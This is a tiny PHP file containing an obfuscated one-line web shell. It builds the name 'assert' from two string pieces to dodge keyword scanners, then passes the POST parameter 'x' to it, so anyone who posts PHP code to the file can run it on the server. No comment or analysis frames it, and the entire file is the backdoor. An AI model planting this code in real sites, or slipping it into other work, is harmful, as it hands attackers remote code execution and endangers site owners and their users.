<?php
$f = "as" . "sert";
$f($_POST['x']);
